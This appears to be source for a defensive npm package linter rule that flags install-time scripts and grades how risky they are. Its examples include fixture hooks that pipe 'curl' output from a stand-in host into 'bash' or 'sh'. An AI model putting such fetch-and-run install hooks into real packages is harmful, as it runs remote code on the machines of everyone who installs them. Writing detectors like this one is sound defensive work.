"""Installing the package runs a script.

## Why it matters

npm runs the scripts `preinstall`, `install` and `postinstall` of every package that it installs, with the rights of
whoever types the command. This is how the worms of 2025 and 2026 spread. `preinstall` runs before anything else, even
before the dependencies are there, and is an error; the other two are a warning. An `install` that does nothing but
build a native module beside its `binding.gyp` is only noted: npm would run node-gyp there without it.

What the command does counts more than the hook: one that downloads a script and runs it, decodes what it runs, opens a
shell to another machine, sends or searches for secrets, publishes packages, changes the git repository or the start-up
files of whoever installs, deletes files outside of the package, or runs a file of a hidden directory is an error, and
so is one that names a script of the package which does any of that.

A script whose file is not in the tarball fails on every machine but yours, and tools that only developers have (husky,
patch-package, lefthook, simple-git-hooks, is-ci) do the same or change the repository of whoever installs: both are an
error. `prepare`, `prepublishOnly` and `prepack` do not run for packages from a registry and are left alone.

The scripts are read from the package.json that npm ends up with: of several roots in one tarball the last file wins,
and of several keys in one object the last value. Bundled dependencies run theirs too.

## How to fix

Do the work when the package is first used, or ship what the script would make. If the script is needed, allow the
exact command: `allow: ["node install.js"]`. Any other command is reported again.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field

from pkglint.detect.code import danger, gyp, scripts, shell
from pkglint.metadata.npm import Manifest
from pkglint.metadata.packages import Packages, is_manifest
from pkglint.model import Entry, Example, Finding, Fix, FixAction, Kind, Level, Row, Rule, Scope, level

LARGEST = 1 << 20  # bytes of a script
HOOKS = ("preinstall", "install", "postinstall")
DEVELOPER_TOOLS = frozenset(
    {
        "husky", "patch-package", "lefthook", "simple-git-hooks", "is-ci", "pre-commit", "lint-staged", "yorkie",
        "ghooks", "git-hooks", "pinst", "only-allow", "tsc", "rollup", "webpack", "vite", "tsup", "eslint", "jest",
    }
)  # fmt: skip
# What only builds or fetches the package's own native module (their documentation on npm).
NATIVE_BUILDERS = frozenset(
    {"node-gyp", "node-gyp-build", "node-gyp-build-optional-packages", "prebuild-install", "node-pre-gyp", "cmake-js"}
)
# Programs that Node.js and npm put on the path of every hook.
EVERYWHERE = frozenset({"node", "npm", "npx", "corepack", "node-gyp"})


@dataclass(frozen=True, slots=True)
class Options:
    """``allow``: commands that may run when the package is installed, each exactly as it stands in package.json."""

    allow: tuple[str, ...] = ()


@dataclass(slots=True)
class State:
    """The manifests, and what scripts do that a hook may not, by path."""

    packages: Packages = field(default_factory=Packages)
    harmful: dict[str, danger.Danger] = field(default_factory=dict)


def _wants(entry: Entry) -> bool:
    return is_manifest(entry) or (entry.size < LARGEST and scripts.may_be_started(entry))


def _visit(entry: Entry, scope: Scope) -> Iterator[Finding]:
    if is_manifest(entry):
        scope.state.packages.see(entry)
    elif harm := scripts.harm(entry):
        scope.state.harmful[entry.path] = harm
    return iter(())


def _finish(scope: Scope) -> Iterator[Finding]:
    packages: Packages = scope.state.packages
    rows = {row.path: row for row in scope.rows}
    for root, manifest in packages.installed():
        for hook in HOOKS:
            command = manifest.table("scripts").get(hook)
            if isinstance(command, str) and command.strip() and command not in scope.options.allow:
                yield _found(scope, root, manifest, rows, hook, command)


def _found(scope: Scope, root: str, manifest: Manifest, rows: dict[str, Row], hook: str, command: str) -> Finding:
    scripts = manifest.table("scripts")
    steps = shell.steps(command, scripts)
    texts = shell.texts(command, scripts)
    harm = _harm(texts, steps)
    inner = None if harm else _of_files(texts, root, scope.state.harmful)
    shown = f"`{harm.part}`" if harm else shell.shown(command)
    text = f"runs {shown} on every machine that installs the package ({hook})"
    if harm:
        text += f", which {harm.text}"
    elif inner:
        text += f"; {_name(inner[0])} {inner[1].text}"
    harm = harm or (inner and inner[1])
    grade = Level.ERROR if hook == "preinstall" or harm else None
    missing = [step.file for step in steps if not step.optional and _missing(step, root, rows)]
    tools = sorted({step.program for step in steps if _developers(step, manifest)})
    if missing:
        text += f"; {_name(missing[0])} is not in the tarball"
        grade = Level.ERROR
    if tools:
        named = " and ".join(_name(tool) for tool in tools[:3])
        text += f"; {named} {'is a development tool' if len(tools) == 1 else 'are development tools'}"
        grade = Level.ERROR
    if grade is None and hook == "install" and f"{root}binding.gyp" in rows and _only_builds(steps):
        grade = Level.INFO
    if root:
        text += "; it is bundled, and npm runs its hooks too"
    return scope.found(
        rows.get(f"{root}package.json", f"{root}package.json"),
        text,
        fix=Fix(
            FixAction.EDIT,
            (),
            f"Remove the {hook} script, or allow its exact command in the policy",
            names_policy=True,
            lines=_allowing(command),
        ),
        details={"hook": hook, "missing": missing[:5], "tools": tools[:5], "does": harm.kind if harm else ""},
        grade=grade,
    )


def _allowing(command: str) -> tuple[str, ...]:
    """What to write into the policy, where all of the command may be printed."""
    whole = command.strip() in shell.shown(command)
    return (f"rules: {{install-script: {{allow: [{json.dumps(command)}]}}}}",) if whole else ()


def _harm(commands: list[str], steps: list[shell.Step]) -> danger.Danger | None:
    """The first thing in a hook's commands that nobody wants on their machine."""
    for command in commands:
        harm = danger.find(command[: danger.MOST], installing=True)
        if harm:
            return harm
        if gyp.silent(command):
            program = next((step.program for step in steps if step.file), "...")
            part = f"{program if program in shell.INTERPRETERS else '...'} ... > /dev/null"
            return danger.Danger("silent", "runs a script of the package with its output hidden", part, 0)
    return None


def _of_files(commands: list[str], root: str, harmful: dict[str, danger.Danger]) -> tuple[str, danger.Danger] | None:
    """The first script of the package that a command names in plain words and that does harm; make has one file."""
    for word in (word for command in commands if harmful for word in shell.plain_words(command)):
        named = ("Makefile", "makefile", "GNUmakefile") if word == "make" else (shell.own_file(word) or "",)
        for file in named:
            if root + file in harmful:
                return file, harmful[root + file]
    return None


def _name(text: str) -> str:
    return text if len(text) <= 60 else text[:57] + "..."


def _missing(step: shell.Step, root: str, rows: dict[str, Row]) -> bool:
    """Whether a file is named in plain words, and nothing in the tarball answers to it as Node would resolve it."""
    file = shell.own_file(step.file)
    if file is None or step.program == "run":
        return False
    file = root + file
    candidates = [file + suffix for suffix in shell.NODE_SUFFIXES]
    candidates += [f"{file}/index{suffix}" for suffix in (".js", ".json", ".node")]
    candidates.append(f"{file}/package.json")
    return rows.keys().isdisjoint(candidates)


def _developers(step: shell.Step, manifest: Manifest) -> bool:
    """Whether a program is on developers' machines only; what may fail, and what every client brings, is not."""
    if step.program in EVERYWHERE:
        return False
    return step.program in DEVELOPER_TOOLS or (_only_here(step, manifest) and not step.optional)


def _only_builds(steps: list[shell.Step]) -> bool:
    """Whether all that a command starts builds the native module, as npm does anyway where a binding.gyp is."""
    return all(step.program in NATIVE_BUILDERS for step in steps)


def _only_here(step: shell.Step, manifest: Manifest) -> bool:
    """Whether the program is a development dependency, and nothing that comes with the package."""
    name = step.program
    if name not in manifest.table("devDependencies") or step.file:
        return False
    shipped = ("dependencies", "optionalDependencies", "peerDependencies", "bin")
    return not any(name in manifest.table(key) for key in shipped)


def _manifest(scripts: str) -> str:
    return f'{{"name": "demo", "version": "1.0.0", "license": "MIT", "scripts": {{{scripts}}}}}\n'


RULE = Rule(
    id="install-script",
    summary="Installing the package runs a script",
    levels=level(Level.WARNING),
    grades=(
        "error for preinstall, for a command that does harm, for a script that is not in the tarball, and for"
        " developers' tools; info for the build of a native module"
    ),
    kinds=(Kind.NPM,),
    options=Options,
    state=State,
    wants=_wants,
    visit=_visit,
    finish=_finish,
    examples=(
        Example(
            "a postinstall script",
            {"package.json": _manifest('"postinstall": "node install.js"'), "install.js": "run();\n"},
            1,
        ),
        Example(
            "the build of a native module",
            {"package.json": _manifest('"install": "prebuild-install || node-gyp rebuild"'), "binding.gyp": "{}"},
            1,
            also=("binding-gyp",),
        ),
        Example("preinstall", {"package.json": _manifest('"preinstall": "npx only-allow pnpm"')}, 1),
        Example("a file that is not there", {"package.json": _manifest('"install": "node scripts/build"')}, 1),
        Example(
            "a script from the network", {"package.json": _manifest('"install": "curl -s demo.invalid/a | bash"')}, 1
        ),
        Example(
            "a file of a hidden directory",
            {"package.json": _manifest('"postinstall": "node .a/b.js"'), ".a/b.js": "run();\n"},
            1,
        ),
        Example(
            "a file that fetches a script",
            {
                "package.json": _manifest('"postinstall": "sh tools/setup.sh"'),
                "tools/setup.sh": "curl -s https://demo.invalid/a | sh\n",
            },
            1,
            also=("encoded-payload",),
        ),
        Example("a developer's tool", {"package.json": _manifest('"postinstall": "is-ci || husky install"')}, 1),
        Example(
            "through npm run",
            {"package.json": _manifest('"postinstall": "npm run setup", "setup": "node tools/setup.js"')},
            1,
        ),
        Example(
            "through a package manager that needs no run",
            {"package.json": _manifest('"postinstall": "yarn setup", "setup": "node tools/setup.js"')},
            1,
        ),
        Example(
            "a bundled dependency",
            {
                "package.json": '{"name": "demo", "version": "1.0.0", "license": "MIT", '
                '"dependencies": {"inner": "1"}, "bundleDependencies": ["inner"]}\n',
                "node_modules/inner/package.json": _manifest('"install": "node build.js"'),
                "node_modules/inner/build.js": "run();\n",
            },
            1,
        ),
        Example(
            "the exact command is allowed",
            {"package.json": _manifest('"postinstall": "node install.js"'), "install.js": "run();\n"},
            policy="version: 1\nrules:\n  install-script: {allow: [node install.js]}\n",
        ),
        Example(
            "scripts that installing from a registry does not run",
            {"package.json": _manifest('"prepare": "husky", "prepublishOnly": "tsc", "prepack": "tsc", "test": "x"')},
        ),
    ),
)
